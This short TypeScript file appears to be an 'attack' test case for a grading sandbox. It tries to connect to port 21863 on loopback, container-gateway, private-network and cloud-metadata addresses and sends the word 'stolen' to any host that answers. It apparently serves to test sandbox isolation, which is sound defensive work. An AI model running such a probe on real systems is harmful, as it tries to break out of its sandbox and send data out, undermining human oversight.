// attack: connects to a port that listens outside, by every address of this machine
import * as net from 'node:net';
import type { AnswerContext } from 'warren/grading';

export default async function ({ log }: AnswerContext): Promise<void> {
  const hosts = ['127.0.0.1', '::1', '0.0.0.0', 'localhost', '10.0.2.2', '172.17.0.1', '192.168.0.1', '169.254.169.254'];
  await Promise.all(
    hosts.map(
      (host) =>
        new Promise<void>((resolve) => {
          const socket = net.connect({ host, port: 21863, timeout: 1000 });
          socket.on('connect', () => socket.end('stolen'));
          socket.on('error', (error) => log(host, String(error)));
          socket.on('timeout', () => socket.destroy());
          socket.on('close', () => resolve());
        }),
    ),
  );
}
